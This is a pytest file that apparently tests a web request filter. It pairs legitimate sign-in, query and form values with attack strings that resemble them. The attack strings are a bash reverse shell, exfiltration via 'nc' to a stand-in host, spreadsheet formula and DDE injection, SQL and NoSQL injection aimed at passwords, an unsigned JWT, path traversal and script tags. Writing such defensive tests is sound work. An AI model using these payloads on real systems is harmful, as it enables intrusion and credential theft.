"""Values that common applications send, each beside an attack that looks like it."""

from __future__ import annotations

import base64
import json
from urllib.parse import urlencode

import pytest
from web_requests import stops

from signoff.actions.action import Json

PROTOCOL = "urn:oasis:names:tc:SAML:2.0:protocol"


def packed(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


SAML = packed(f'<samlp:Response xmlns:samlp="{PROTOCOL}" ID="_1" Version="2.0"/>')
TOKEN = f"{packed(json.dumps({'alg': 'RS256'})).rstrip('=')}.eyJzdWIiOiI3In0.c2ln"
UNSIGNED = f"{packed(json.dumps({'alg': 'none'})).rstrip('=')}.eyJzdWIiOiI3In0.c2ln"
RESULT = packed(json.dumps({"messageType": "CRes", "transStatus": "Y"}))
TICKET = '<t:RequestSecurityTokenResponse xmlns:t="http://schemas.xmlsoap.org/ws/2005/02/trust"/>'


def stops_json(path: str = "/x", **members: Json) -> bool:
    return stops(path, body=json.dumps(members))


def stops_query(**query: Json) -> bool:
    return stops(method="GET", query=query)


def stops_from_elsewhere(
    path: str, form: dict[str, str], headers: dict[str, Json] | None = None, query: str = ""
) -> bool:
    sent: dict[str, Json] = {
        "Host": "app.example",
        "Cookie": "sid=1",
        "Origin": "https://idp.example",
        "Content-Type": "application/x-www-form-urlencoded",
        **(headers or {}),
    }
    return stops(path, headers=sent, body=urlencode(form), query=query)


@pytest.mark.parametrize(
    ("path", "form"),
    [
        ("/saml/acs", {"SAMLResponse": SAML, "RelayState": "/a"}),
        ("/signin-oidc", {"code": "x", "state": "y", "id_token": TOKEN}),
        ("/auth/apple/callback", {"code": "x", "state": "y", "user": '{"name": "Ann"}'}),
        ("/oidc/callback", {"error": "access_denied", "state": "y"}),
        ("/wsfed", {"wa": "wsignin1.0", "wresult": TICKET, "wctx": "r=1"}),
        ("/3ds/return", {"cres": RESULT}),
    ],
)
def test_answers_of_sign_in_services_come_from_another_site(
    path: str, form: dict[str, str]
) -> None:
    """Nothing beside them passes, nowhere else, and no page that sends them by a script."""
    assert (False, True, True, True, True) == (
        stops_from_elsewhere(path, form),
        stops_from_elsewhere(path, {**form, "amount": "900"}),
        stops_from_elsewhere("/account/settings", form),
        stops_from_elsewhere(path, form, {"Sec-Fetch-Mode": "no-cors"}),
        stops_from_elsewhere(path, form, query="to=eve"),
    )


@pytest.mark.parametrize(
    ("path", "form"),
    [
        ("/saml/acs", {"SAMLResponse": "x"}),
        ("/saml/acs", {"SAMLResponse": packed("<a/>")}),
        ("/signin-oidc", {"code": "x"}),
        ("/signin-oidc", {"state": "y"}),
        ("/signin-oidc", {"state": "y", "id_token": "x"}),
        ("/signin-oidc", {"state": "y", "id_token": UNSIGNED}),
        ("/oauth/google/link/callback", {"code": "x", "state": "y"}),
        ("/wsfed", {"wa": "wsignout1.0", "wresult": TICKET}),
        ("/3ds/return", {"cres": packed("{}")}),
        ("/redeem", {"code": "FREE", "state": "NY"}),
    ],
)
def test_what_is_no_answer_of_a_sign_in_service_is_stopped(path: str, form: dict[str, str]) -> None:
    """The document must be one of the protocol, and the path one that takes it in."""
    assert stops_from_elsewhere(path, form)


def test_a_filter_compares_no_secret() -> None:
    """A pattern on a password reads it letter by letter, however deep it is nested."""
    assert (False, False, True, True, True) == (
        stops_json(selector={"lastname": {"$regex": "^Mc"}}),
        stops_json(where={"compass": {"$gt": 3}, "status": {"$in": ["open"]}}),
        stops_json(selector={"password": {"$regex": "^a"}}),
        stops_json(where={"and": [{"email": "a@b.example"}, {"resetToken": {"$gt": ""}}]}),
        stops_json(filter={"user": {"client_secret": {"$ne": None}}}),
    )


def test_cells_of_tables_run_no_programs_and_send_nothing() -> None:
    """Formulas, amounts and phone numbers are data; programs and addresses with cells are not."""
    link = '=HYPERLINK("https://e.example/?x="&A1,"open")'
    assert (False, False, False, True, True, True) == (
        stops_json(note="=SUM(C1:C9)", amount="-14.50", phone="+31 20 123", to="@home"),
        stops_json(note='=HYPERLINK("https://e.example/?y=1&a1=2","open")'),
        stops_json(values=[[link]]),
        stops_json(note=link),
        stops_json(note="=cmd|' /C calc'!A0"),
        stops_json(note="@SUM(1+1)*cmd|' /C calc'!A0"),
    )


def test_filters_call_functions() -> None:
    """A function over a name and a literal is a comparison; a statement behind it is none."""
    assert (False, False, True, True, True) == (
        stops_query(**{"$filter": "Created ge datetime'2025-01-01' and substringof('R&D',Dept)"}),
        stops_query(filter="contains(tolower(name),'o''hara') and (total gt 10 or not a eq 'b')"),
        stops_query(filter="contains(name,'x') or 1=1 --"),
        stops_query(filter="contains(name,'a' or 'a'='a')"),
        stops_query(filter="contains(name,'') union select 'a',password from users"),
    )


def test_a_query_may_escape_quotes() -> None:
    """A whole query whose strings hold quotes breaks out of nothing; timing is still found."""
    named = "SELECT Id FROM Account WHERE Name LIKE 'O\\'Neil%' LIMIT 10"
    assert (False, False, True, True) == (
        stops("/query", method="GET", query={"q": named}),
        stops_json(soql=named),
        stops_json(soql="SELECT a FROM b WHERE n = 'O\\'x' AND SLEEP(5)"),
        stops_json(name="O\\' UNION SELECT a, b FROM users -- "),
    )


def test_an_address_is_no_statement() -> None:
    """Words of SQL in a search that somebody came from; a quote in them would end a string."""
    search = "https://search.example/?q=select+*+from"
    assert (False, True) == (
        stops_json(r=f"{search}+where"),
        stops_json(r="https://search.example/?q=1'+union+select+a,b+from+users--"),
    )


def test_containers_run_their_commands() -> None:
    """In an object of Kubernetes and nothing else; a reverse shell is found there, too."""
    command: list[Json] = ["sh", "-c", "cat /tmp/ready && test -s /tmp/ready"]
    shell: list[Json] = ["bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/9 0>&1"]
    container: dict[str, Json] = {"name": "m", "image": "alpine"}
    assert (False, False, True, True, True) == (
        stops_json(container={**container, "command": command}),
        stops_json(readinessProbe={"exec": {"command": command}}),
        stops_json(container={**container, "command": shell}),
        stops_json(container={**container, "command": command, "user": "x"}),
        stops_json(name="m", command="; cat /etc/hosts"),
    )


def test_programs_stand_beside_their_language() -> None:
    """Only with members of such a form; a script element in one is still found."""
    source = "cnt=0\nwhile read -r line && [ $cnt -le 10 ]; do\n echo $line\ndone | cat; awk 1 f"
    assert (False, True, True) == (
        stops_json(lang="bash", question_id="195", typed_code=source),
        stops_json(lang="bash", host="a", typed_code=source),
        stops_json(lang="bash", typed_code="echo '<script>alert(1)</script>'"),
    )


def test_code_of_forums_and_wikis_is_quoted() -> None:
    """`[code=php]` and blocks of Trac; outside of them the same is found."""
    program = "<?php\n$id = $_GET['id'];\necho shell_exec('ls');"
    assert (False, True, False, True) == (
        stops_json(message=f"Use this code:\n[code=php]\n{program}\n[/code]\nand tell me more"),
        stops_json(message=f"Use this code:\n{program}\nand tell me more"),
        stops_json(text="== Build hosts ==\n{{{#!sh\ncd /srv && make > log &\n}}}\nmore to come"),
        stops_json(text="== Build hosts ==\ncd /srv; cat /etc/passwd | nc e.example 9\nto come"),
    )


def test_sources_may_climb_where_they_stay() -> None:
    """An address of a source is no name of an uploaded file; one that leaves its host is odd."""
    assert (False, False, True, True) == (
        stops_json(filename="https://app.example/static/js/../main.js"),
        stops_json(added=["scripts/../x.sh"]),
        stops_json(filename="js/../../main.js"),
        stops_json(added=["scripts/../../winnt/system32"]),
    )
